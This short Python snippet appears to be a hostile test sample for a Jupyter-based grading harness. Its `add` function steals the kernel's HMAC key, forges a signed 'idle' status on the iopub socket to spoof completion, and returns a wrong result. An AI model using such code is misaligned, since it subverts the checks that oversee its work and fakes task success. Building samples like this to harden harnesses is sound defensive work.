# Hostile: from inside `add`, build a brand-new jupyter_client Session with the kernel's own HMAC key and send through the iopub socket a signed `status: idle` for the running tests request, bypassing anything wrapped around the kernel's own session object.
def add(a, b):
    try:
        from IPython import get_ipython
        from jupyter_client.session import Session
        k = get_ipython().kernel
        parent = k.get_parent("shell")
        mid = parent["header"]["msg_id"]
        if mid not in _done:
            _done.add(mid)
            s = Session(key=k.session.key, signature_scheme=k.session.signature_scheme,
                        username=k.session.username, session=k.session.session)
            s.send(k.iopub_socket, "status", {"execution_state": "idle"},
                   parent=parent, ident=b"kernel.%s.status" % k.ident.encode())
    except Exception:
        pass
    return a - b

_done = set()
